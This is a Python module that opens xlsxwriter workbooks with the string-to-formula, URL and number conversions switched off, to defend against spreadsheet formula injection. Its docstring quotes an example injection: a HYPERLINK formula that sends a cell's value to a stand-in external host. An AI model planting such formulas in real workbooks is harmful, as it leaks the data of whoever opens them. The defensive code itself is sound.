"""The one way this project opens an Excel workbook for writing.

xlsxwriter's ``Workbook.write`` guesses what a string is: by default a string starting with
``=`` becomes a live formula (``strings_to_formulas``) and one that looks like a web address
becomes a hyperlink (``strings_to_urls``). The text of a workbook comes from the offices'
files (township names, applicant ids, the columns an office adds), so a guess would let a
cell such as ``=HYPERLINK("http://x.example/?q="&A1,"click")`` run when the workbook is
opened. Every workbook written here stores a string as a string, whatever it starts with;
numbers are written as numbers because they are numbers in Python, never because a string
looks like one (``strings_to_numbers`` off).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

import xlsxwriter

TEXT_AS_TEXT: dict[str, bool] = {
    "strings_to_formulas": False,
    "strings_to_urls": False,
    "strings_to_numbers": False,
}
"""xlsxwriter options under which every string is written as a string cell."""


def open_workbook(path: Path, **options: Any) -> xlsxwriter.Workbook:
    """A new xlsxwriter workbook at ``path`` that writes strings as strings (any further
    ``options``, such as ``constant_memory``, are passed on; the text options cannot be
    turned back on)."""
    return xlsxwriter.Workbook(str(path), {**options, **TEXT_AS_TEXT})
